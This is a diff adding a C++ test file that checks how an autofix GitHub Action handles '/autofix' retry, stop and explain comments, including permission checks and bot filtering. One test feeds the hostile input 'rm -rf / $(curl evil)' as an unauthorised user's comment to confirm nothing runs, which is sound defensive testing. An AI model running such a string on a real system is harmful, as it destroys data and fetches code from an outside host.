@@ -1,0 +1,364 @@
+// Runs `/autofix` comment commands through the real binary in the workflow sandbox (issue_comment payloads
+// as GitHub sends them): `retry` with guidance after an escalation makes exactly one more attempt whose
+// prompt holds the guidance; `stop` keeps the next failing run from attempting; a user without write access
+// gets one polite reply and nothing runs; a bot's command is ignored; `explain` on the pull request whose
+// build failed finds its fix branch and replies from what the commits record.
+#include "core/comment_commands.hpp"
+#include "support/event_runs.hpp"
+#include "support/hardening.hpp"
+#include "support/readme_workflow.hpp"
+#include "support/scripted_model.hpp"
+#include "support/workflow_sandbox.hpp"
+
+#include <algorithm>
+#include <cctype>
+#include <gtest/gtest.h>
+
+namespace autofix {
+namespace {
+
+using nlohmann::json;
+using testing::describe_runs;
+using testing::RunOptions;
+using testing::WorkflowRun;
+using testing::WorkflowSandbox;
+
+const std::string k_guidance = "The README note is noise; look at inventory/report.py instead.";
+
+// An issue_comment payload (GitHub's webhook shape) for a comment by `login` on issue or pull request
+// `number` carrying `labels`.
+json comment_payload(std::uint64_t number, bool on_pull_request, const std::vector<std::string>& labels,
+                     const std::string& login, const std::string& body, const std::string& type = "User") {
+    json issue = {{"number", number},
+                  {"title", "An issue"},
+                  {"state", "open"},
+                  {"labels", json::array()},
+                  {"user", {{"login", "github-actions[bot]"}, {"type", "Bot"}}}};
+    for (const std::string& label : labels) {
+        issue["labels"].push_back({{"name", label}, {"color", "ededed"}});
+    }
+    if (on_pull_request) {
+        issue["pull_request"] = {
+            {"url", "https://api.github.com/repos/octo/inventory/pulls/" + std::to_string(number)}};
+    }
+    return json{{"action", "created"},
+                {"issue", issue},
+                {"comment",
+                 {{"id", 2000000000 + number},
+                  {"body", body},
+                  {"user", {{"login", login}, {"type", type}}},
+                  {"author_association", "CONTRIBUTOR"}}},
+                {"repository", {{"full_name", "octo/inventory"}}},
+                {"sender", {{"login", login}, {"type", type}}}};
+}
+
+// The comment workflow of README.md's "Talking to it" section.
+YAML::Node comment_workflow() {
+    return testing::readme_workflow("## Talking to it");
+}
+
+// Runs the comment workflow of README's "Talking to it" section for `payload` (on main, no build), with the
+// inputs its job gives the action (the sandbox passes the model key); `extra` wins.
+WorkflowRun run_comment(WorkflowSandbox& sandbox, json payload,
+                        const std::map<std::string, std::string>& extra = {}) {
+    RunOptions options;
+    options.env["GITHUB_EVENT_NAME"] =
+        payload.contains("issue") ? "issue_comment" : "pull_request_review_comment";
+    options.payload = std::move(payload);
+    options.env["INPUT_BUILD-STATUS"] = "";
+    options.env["INPUT_FAILURE-LOG"] = "";
+    options.env["GITHUB_WORKFLOW_REF"] =
+        "octo/inventory/.github/workflows/autofix-commands.yml@refs/heads/main";
+    for (const auto& [name, value] : testing::readme_job(comment_workflow(), "command").inputs) {
+        if (value.find("${{") == std::string::npos) {
+            std::string upper = name;
+            std::transform(upper.begin(), upper.end(), upper.begin(),
+                           [](unsigned char c) { return static_cast<char>(std::toupper(c)); });
+            options.env["INPUT_" + upper] = value;
+        }
+    }
+    for (const auto& [name, value] : extra) {
+        options.env[name] = value;
+    }
+    return sandbox.run_workflow("main", options);
+}
+
+// The first request of every fix session (the ones with tools and a single message), in order.
+std::vector<json> session_openings(WorkflowSandbox& sandbox) {
+    std::vector<json> openings;
+    for (const auto& request : sandbox.model().requests()) {
+        const json body = json::parse(request.body, nullptr, false);
+        if (body.is_object() && body.contains("tools") && body["messages"].size() == 1) {
+            openings.push_back(body);
+        }
+    }
+    return openings;
+}
+
+std::string fix_label_of(const std::string& fix_branch) {
+    return fix_branch; // autonomous-fix-{id} is the branch's name and its PR's label
+}
+
+TEST(CommentCommands, TheReadmeWorkflowListensToCommentsWithThePermissionsItNeeds) {
+    const YAML::Node workflow = comment_workflow();
+    EXPECT_TRUE(workflow["on"]["issue_comment"]);
+    EXPECT_TRUE(workflow["on"]["pull_request_review_comment"]);
+    const YAML::Node job = workflow["jobs"]["command"];
+    EXPECT_NE(job["if"].as<std::string>().find("startsWith(github.event.comment.body, '/autofix')"),
+              std::string::npos);
+    for (const char* scope : {"contents", "pull-requests", "issues", "actions"}) {
+        EXPECT_EQ(job["permissions"][scope].as<std::string>(), "write") << scope;
+    }
+    EXPECT_EQ(testing::readme_job(workflow, "command").inputs.count("build-status"), 0U);
+}
+
+TEST(CommentCommands, RetryWithGuidanceAfterAnEscalationMakesExactlyOneMoreAttempt) {
+    testing::SandboxOptions options;
+    options.env["INPUT_MAX-ATTEMPTS"] = "2";
+    options.env["INPUT_STRONG-MODEL-FROM-ATTEMPT"] = "3";
+    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2),
+                                                     testing::harmless_edit(3), testing::harmless_edit(4)}),
+                            options);
+    sandbox.break_project("bug-simple.py", "inventory/report.py");
+    const auto runs = sandbox.run_until_settled("main");
+    ASSERT_EQ(runs.back().output("action-taken"), "escalated") << describe_runs(runs);
+    const std::string fix_branch = runs.front().output("fix-branch");
+    ASSERT_EQ(sandbox.github().issues().size(), 1U);
+    const testing::FakeItem escalation = sandbox.github().issues()[0];
+    ASSERT_EQ(session_openings(sandbox).size(), 2U);
+    sandbox.github().set_collaborator("ada", "maintain");
+
+    const WorkflowRun retried =
+        run_comment(sandbox, comment_payload(escalation.number, false, escalation.labels, "ada",
+                                             "Thanks for trying.\n\n/autofix retry " + k_guidance));
+    ASSERT_EQ(retried.exit_code, 0) << describe_runs({retried});
+    EXPECT_EQ(retried.output("action-taken"), "command_retry") << describe_runs({retried});
+    EXPECT_EQ(retried.output("case"), "2");
+    EXPECT_EQ(retried.output("attempt"), "3");
+    EXPECT_EQ(retried.output("model"), "claude-opus-4-5"); // past strong-model-from-attempt
+    EXPECT_EQ(retried.output("fix-branch"), fix_branch);
+    EXPECT_EQ(retried.result["action_taken"], "command_retry");
+
+    // Exactly one more session, and its prompt holds the guidance as the maintainer's.
+    const auto openings = session_openings(sandbox);
+    ASSERT_EQ(openings.size(), 3U);
+    const std::string prompt = openings.back()["messages"][0].dump();
+    EXPECT_NE(prompt.find("Guidance from @ada"), std::string::npos) << prompt.substr(0, 3000);
+    EXPECT_NE(prompt.find(k_guidance), std::string::npos);
+    EXPECT_EQ(openings.back()["model"], "claude-opus-4-5");
+    // CI is started on the fix branch with the CI workflow (ci-workflow), not the comment workflow.
+    ASSERT_FALSE(sandbox.github().dispatches().empty());
+    EXPECT_EQ(sandbox.github().dispatches().back().workflow, "test-and-autofix.yml");
+    EXPECT_EQ(sandbox.github().dispatches().back().ref, fix_branch);
+
+    // The attempt is on the branch with the command recorded; the reply says what happened.
+    const std::string message = sandbox.origin_log(fix_branch + "~0", "%B");
+    EXPECT_NE(message.find("Attempt 3: Note attempt 3 in the README"), std::string::npos) << message;
+    EXPECT_NE(message.find("Autofix-Command: retry\nAutofix-Requested-By: ada"), std::string::npos)
+        << message;
+    const auto issue = sandbox.github().item(escalation.number);
+    ASSERT_TRUE(issue);
+    ASSERT_EQ(issue->comments.size(), 1U);
+    EXPECT_NE(issue->comments[0].find("Attempt 3 with `claude-opus-4-5`"), std::string::npos)
+        << issue->comments[0];
+
+    // CI fails again on the fix branch: the retry allowed one attempt only, the issue exists: nothing more.
+    const WorkflowRun after = sandbox.run_workflow(fix_branch);
+    EXPECT_EQ(after.exit_code, 0) << describe_runs({after});
+    EXPECT_EQ(after.output("action-taken"), "already_escalated") << describe_runs({after});
+    EXPECT_EQ(session_openings(sandbox).size(), 3U);
+}
+
+TEST(CommentCommands, StopKeepsTheNextFailingRunFromAttempting) {
+    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2)}));
+    sandbox.break_project("bug-simple.py", "inventory/report.py");
+    const WorkflowRun first = sandbox.run_workflow("main");
+    ASSERT_EQ(first.output("action-taken"), "fix_attempted") << describe_runs({first});
+    const std::string fix_branch = first.output("fix-branch");
+    // A fix pull request whose branch the issue comment's payload does not name: the binary asks the API.
+    const std::uint64_t pull = sandbox.github().add_pull_request("Autonomous fix", fix_branch, "main");
+    sandbox.github().set_collaborator("grace", "write");
+
+    const WorkflowRun stopped =
+        run_comment(sandbox, comment_payload(pull, true, {}, "grace", "/AUTOFIX   stop\n\n> /autofix retry"));
+    ASSERT_EQ(stopped.exit_code, 0) << describe_runs({stopped});
+    EXPECT_EQ(stopped.output("action-taken"), "command_stopped") << describe_runs({stopped});
+    const std::string message = sandbox.origin_log(fix_branch + "~0", "%B");
+    EXPECT_NE(message.find("Autofix-Kind: command\nAutofix-Command: stop\nAutofix-Requested-By: grace"),
+              std::string::npos)
+        << message;
+    ASSERT_EQ(sandbox.github().item(pull)->comments.size(), 1U);
+    EXPECT_NE(sandbox.github().item(pull)->comments[0].find("Stopped: no further fix attempts"),
+              std::string::npos);
+    EXPECT_TRUE(core::parse_comment_commands(sandbox.github().item(pull)->comments[0]).empty());
+
+    // CI fails on the fix branch again: the run sees the stop and makes no attempt.
+    const std::string head = testing::git_in(sandbox.origin_path(), {"rev-parse", fix_branch});
+    const std::size_t sessions = session_openings(sandbox).size();
+    const WorkflowRun next = sandbox.run_workflow(fix_branch);
+    EXPECT_EQ(next.exit_code, 0) << describe_runs({next});
+    EXPECT_EQ(next.output("action-taken"), "stopped_by_command") << describe_runs({next});
+    EXPECT_EQ(next.result["action_taken"], "stopped_by_command");
+    EXPECT_NE(next.step_summary.find("@grace commented `/autofix stop`"), std::string::npos)
+        << next.step_summary;
+    EXPECT_EQ(session_openings(sandbox).size(), sessions);
+    EXPECT_EQ(testing::git_in(sandbox.origin_path(), {"rev-parse", fix_branch}), head);
+}
+
+TEST(CommentCommands, RetryAfterAHumanCommitBuildsOnItAndNeedsTheCiWorkflow) {
+    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2)}));
+    sandbox.break_project("bug-simple.py", "inventory/report.py");
+    const WorkflowRun first = sandbox.run_workflow("main");
+    const std::string fix_branch = first.output("fix-branch");
+    const std::string human = sandbox.commit_as_human(fix_branch, "NOTES.md", "tried something\n");
+    const WorkflowRun stopped = sandbox.run_workflow(fix_branch);
+    ASSERT_EQ(stopped.output("action-taken"), "human_took_over") << describe_runs({stopped});
+    const std::uint64_t pull = sandbox.github().add_pull_request("Autonomous fix", fix_branch, "main", "open",
+                                                                 {fix_label_of(fix_branch)});
+    sandbox.github().set_collaborator("ada", "admin");
+    const std::size_t sessions = session_openings(sandbox).size();
+
+    // Without ci-workflow the attempt could be pushed but never tested: refused before the model is asked.
+    const WorkflowRun refused = run_comment(
+        sandbox, comment_payload(pull, true, {fix_label_of(fix_branch)}, "ada", "/autofix retry go on"),
+        {{"INPUT_CI-WORKFLOW", ""}});
+    EXPECT_EQ(refused.output("action-taken"), "command_refused") << describe_runs({refused});
+    EXPECT_NE(sandbox.github().item(pull)->comments.back().find("`ci-workflow`"), std::string::npos);
+    EXPECT_EQ(session_openings(sandbox).size(), sessions);
+
+    // With it: one attempt on top of the human's commit (a human asked for it).
+    const WorkflowRun retried = run_comment(
+        sandbox, comment_payload(pull, true, {fix_label_of(fix_branch)}, "ada", "/autofix retry go on"));
+    ASSERT_EQ(retried.exit_code, 0) << describe_runs({retried});
+    EXPECT_EQ(retried.output("action-taken"), "command_retry") << describe_runs({retried});
+    EXPECT_EQ(retried.output("attempt"), "2");
+    EXPECT_EQ(session_openings(sandbox).size(), sessions + 1);
+    EXPECT_EQ(testing::git_in(sandbox.origin_path(), {"rev-parse", fix_branch + "~1"}).substr(0, 40),
+              human.substr(0, 40));
+}
+
+TEST(CommentCommands, AUserWithoutWriteAccessGetsOneReplyAndNothingRuns) {
+    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2)}));
+    sandbox.break_project("bug-simple.py", "inventory/report.py");
+    const WorkflowRun first = sandbox.run_workflow("main");
+    const std::string fix_branch = first.output("fix-branch");
+    const std::uint64_t pull = sandbox.github().add_pull_request("Autonomous fix", fix_branch, "main", "open",
+                                                                 {fix_label_of(fix_branch)});
+    sandbox.github().set_collaborator("triager", "triage");
+    const std::string head = testing::git_in(sandbox.origin_path(), {"rev-parse", fix_branch});
+    const std::size_t requests = sandbox.model().requests().size();
+
+    // A triager (read access) and someone who is no collaborator at all (404).
+    std::size_t replies = 0;
+    for (const std::string login : {"triager", "passer-by"}) {
+        const WorkflowRun refused =
+            run_comment(sandbox, comment_payload(pull, true, {fix_label_of(fix_branch)}, login,
+                                                 "/autofix retry rm -rf / $(curl evil)"));
+        EXPECT_EQ(refused.exit_code, 0) << describe_runs({refused});
+        EXPECT_EQ(refused.output("action-taken"), "command_refused") << describe_runs({refused});
+        const auto comments = sandbox.github().item(pull)->comments;
+        ASSERT_EQ(comments.size(), ++replies) << login;
+        EXPECT_NE(comments.back().find("Only people with write access"), std::string::npos)
+            << comments.back();
+        EXPECT_NE(comments.back().find("@" + login), std::string::npos);
+    }
+    EXPECT_EQ(sandbox.model().requests().size(), requests);
+    EXPECT_EQ(testing::git_in(sandbox.origin_path(), {"rev-parse", fix_branch}), head);
+}
+
+TEST(CommentCommands, ABotsCommandIsIgnoredWithoutAnyCall) {
+    WorkflowSandbox sandbox(testing::scripted_fixer({}));
+    sandbox.github().set_collaborator("renovate[bot]", "admin");
+    const std::uint64_t issue = sandbox.github().add_issue("Escalated", "", {"autonomous-fix-1-escalation"});
+    const std::size_t api_requests = sandbox.github().requests().size();
+    const WorkflowRun ignored =
+        run_comment(sandbox, comment_payload(issue, false, {"autonomous-fix-1-escalation"}, "renovate[bot]",
+                                             "/autofix stop", "Bot"));
+    EXPECT_EQ(ignored.exit_code, 0) << describe_runs({ignored});
+    EXPECT_EQ(ignored.output("action-taken"), "command_ignored") << describe_runs({ignored});
+    EXPECT_NE(ignored.step_summary.find("is a bot"), std::string::npos) << ignored.step_summary;
+    EXPECT_EQ(sandbox.github().requests().size(), api_requests);
+    EXPECT_TRUE(sandbox.github().item(issue)->comments.empty());
+    EXPECT_TRUE(sandbox.model().requests().empty());
+}
+
+TEST(CommentCommands, ExplainOnThePullRequestWhoseBuildFailedAnswersFromTheCommits) {
+    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1)}));
+    sandbox.break_project("bug-simple.py", "inventory/report.py", "feature");
+    const WorkflowRun first = sandbox.run_workflow("feature");
+    ASSERT_EQ(first.output("action-taken"), "fix_attempted") << describe_runs({first});
+    const std::string fix_branch = first.output("fix-branch");
+    const std::uint64_t pull = sandbox.github().add_pull_request("Add a feature", "feature", "main");
+    sandbox.github().set_collaborator("ada", "admin");
+    const std::size_t requests = sandbox.model().requests().size();
+
+    const WorkflowRun explained =
+        run_comment(sandbox, comment_payload(pull, true, {}, "ada", "/autofix explain"));
+    ASSERT_EQ(explained.exit_code, 0) << describe_runs({explained});
+    EXPECT_EQ(explained.output("action-taken"), "command_explained") << describe_runs({explained});
+    EXPECT_EQ(explained.output("fix-branch"), fix_branch);
+    EXPECT_EQ(sandbox.model().requests().size(), requests); // from the commits: no model call
+    const auto comments = sandbox.github().item(pull)->comments;
+    ASSERT_EQ(comments.size(), 1U);
+    const std::string& reply = comments[0];
+    EXPECT_NE(reply.find("### Attempt 1 on `" + fix_branch + "`"), std::string::npos) << reply;
+    EXPECT_NE(reply.find("The failure it answered"), std::string::npos) << reply;
+    EXPECT_NE(reply.find("NameError"), std::string::npos) << reply; // bug-simple's failure
+    EXPECT_NE(reply.find("- `README.md` (+2"), std::string::npos) << reply;
+    EXPECT_NE(reply.find("Scripted: Note attempt 1 in the README"), std::string::npos) << reply;
+    EXPECT_TRUE(core::parse_comment_commands(reply).empty()) << "the reply would command the action";
+
+    // An unknown subcommand gets the list of commands.
+    const WorkflowRun unknown =
+        run_comment(sandbox, comment_payload(pull, true, {}, "ada", "/autofix fix-it-all"));
+    EXPECT_EQ(unknown.output("action-taken"), "command_unknown") << describe_runs({unknown});
+    EXPECT_NE(sandbox.github().item(pull)->comments.back().find("/autofix retry <guidance>"),
+              std::string::npos);
+}
+
+TEST(CommentCommands, AReviewCommentOnThePullRequestWhoseBuildFailedStopsItsFix) {
+    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2)}));
+    sandbox.break_project("bug-simple.py", "inventory/report.py", "feature");
+    const std::uint64_t pr = sandbox.github().add_pull_request("Stock reports", "feature", "main");
+    sandbox.make_pull_request_refs(static_cast<int>(pr), "feature", "main");
+    const WorkflowRun first =
+        sandbox.run_workflow("feature", testing::pull_request_run(sandbox, pr, "feature"));
+    ASSERT_EQ(first.output("action-taken"), "fix_attempted") << describe_runs({first});
+    const std::string fix_branch = first.output("fix-branch");
+    sandbox.github().set_collaborator("ada", "write");
+    const std::size_t comments = sandbox.github().item(pr)->comments.size(); // the progress comment
+
+    // pull_request_review_comment: the payload names the pull request and its branch (GitHub's shape).
+    const json review = {{"action", "created"},
+                         {"comment",
+                          {{"id", 3000000001},
+                           {"path", "inventory/report.py"},
+                           {"body", "```\n/autofix retry\n```\nWe do not want that.\n/autofix stop"},
+                           {"user", {{"login", "ada"}, {"type", "User"}}}}},
+                         {"pull_request",
+                          {{"number", pr},
+                           {"state", "open"},
+                           {"labels", json::array()},
+                           {"head", {{"ref", "feature"}, {"repo", {{"full_name", "octo/inventory"}}}}},
+                           {"base", {{"ref", "main"}, {"repo", {{"full_name", "octo/inventory"}}}}}}},
+                         {"repository", {{"full_name", "octo/inventory"}}},
+                         {"sender", {{"login", "ada"}, {"type", "User"}}}};
+    const WorkflowRun stopped = run_comment(sandbox, review);
+    ASSERT_EQ(stopped.exit_code, 0) << describe_runs({stopped});
+    EXPECT_EQ(stopped.output("action-taken"), "command_stopped") << describe_runs({stopped});
+    EXPECT_EQ(stopped.output("fix-branch"), fix_branch);
+    EXPECT_NE(stopped.stdout_text.find("the fix of pull request #" + std::to_string(pr)), std::string::npos)
+        << stopped.stdout_text;
+    ASSERT_EQ(sandbox.github().item(pr)->comments.size(), comments + 1);
+    EXPECT_NE(sandbox.github().item(pr)->comments.back().find("Stopped"), std::string::npos);
+
+    const std::size_t sessions = session_openings(sandbox).size();
+    RunOptions dispatched;
+    dispatched.env["GITHUB_EVENT_NAME"] = "workflow_dispatch";
+    const WorkflowRun next = sandbox.run_workflow(fix_branch, dispatched);
+    EXPECT_EQ(next.output("action-taken"), "stopped_by_command") << describe_runs({next});
+    EXPECT_EQ(session_openings(sandbox).size(), sessions);
+}
+
+} // namespace
+} // namespace autofix
